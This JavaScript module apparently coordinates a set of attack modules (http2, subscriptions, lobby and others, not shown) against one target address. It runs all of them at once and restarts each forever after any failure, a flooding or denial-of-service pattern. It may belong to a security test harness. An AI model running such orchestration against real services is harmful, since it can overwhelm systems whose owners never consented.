// Every other attack at the same time, from the same address.

import { setTimeout as pause } from 'node:timers/promises';

import * as alone from './alone.mjs';
import * as computer from './computer.mjs';
import * as exports from './exports.mjs';
import * as frames from './frames.mjs';
import * as http2 from './http2.mjs';
import * as lists from './lists.mjs';
import * as lobby from './lobby.mjs';
import * as order from './order.mjs';
import * as positions from './positions.mjs';
import * as silence from './silence.mjs';
import * as subscriptions from './subscriptions.mjs';
import * as unread from './unread.mjs';

export const title = 'all of them at once';
// Those of positions and exports are among the first, which are the ones that the subscriptions name.
export const archive = [subscriptions.archive, lists.archive];
export const { ready } = subscriptions;

export async function attack(where) {
  const all = [subscriptions, unread, silence, computer, lobby, lists, frames, http2, alone, positions, exports, order];
  await Promise.all(all.map((one) => goOn(one, where)));
}

// Begins an attack again that was refused before it had begun.
async function goOn(one, where) {
  for (;;) {
    try {
      await one.attack(where);
    } catch {
      await pause(500);
    }
  }
}
